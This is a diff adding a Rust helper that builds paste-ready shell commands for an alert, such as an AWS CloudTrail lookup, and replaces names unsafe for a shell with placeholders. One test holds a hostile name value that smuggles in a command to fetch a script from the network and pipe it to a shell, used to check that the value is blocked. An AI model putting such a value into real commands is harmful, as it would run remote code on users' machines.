@@ -1,0 +1,70 @@
+//! Shell commands in an alert, ready to paste.
+
+use std::fmt::Write;
+
+use crate::text::Text;
+
+/// Columns of an alert's text.
+pub(super) const WIDTH: usize = 72;
+
+/// A command of several words, broken over lines that a shell reads as one.
+pub(super) fn command(indent: &str, words: &[&str]) -> String {
+    const CONTINUED: &str = " \\";
+    let mut lines = String::new();
+    let mut line = indent.to_owned();
+    for (i, word) in words.iter().enumerate() {
+        let is_first = line.trim().is_empty();
+        let fits = line.len() + 1 + word.len() + CONTINUED.len() <= WIDTH;
+        if !is_first && !fits {
+            let _ = writeln!(lines, "{line}{CONTINUED}");
+            line = format!("{indent}  {word}");
+        } else if i == 0 {
+            line.push_str(word);
+        } else {
+            line.push(' ');
+            line.push_str(word);
+        }
+    }
+    let _ = writeln!(lines, "{line}");
+    lines
+}
+
+/// A name as a shell word, or a word to fill in if the name could mean something else
+/// to a shell, to AWS or to a mail program.
+pub(super) fn word(name: Option<&Text>, placeholder: &str) -> String {
+    match name {
+        Some(name) if name.is_plain() => name.to_string(),
+        _ => placeholder.to_owned(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_long_command_continues_on_the_next_line() {
+        let text = command(
+            "  ",
+            &[
+                "aws cloudtrail lookup-events",
+                "--region eu-west-1",
+                "--start-time 2026-01-01T00:00:00Z",
+                "--max-items 50",
+            ],
+        );
+        assert_eq!(
+            text,
+            "  aws cloudtrail lookup-events --region eu-west-1 \\\n    \
+             --start-time 2026-01-01T00:00:00Z --max-items 50\n"
+        );
+    }
+
+    #[test]
+    fn a_name_that_a_shell_would_run_never_reaches_a_command() {
+        let hostile = Text::new("x'; curl example.com | sh; '", 99);
+        assert_eq!(word(Some(&hostile), "NAME"), "NAME");
+        assert_eq!(word(Some(&Text::new("ci-deploy", 99)), "NAME"), "ci-deploy");
+        assert_eq!(word(None, "NAME"), "NAME");
+    }
+}
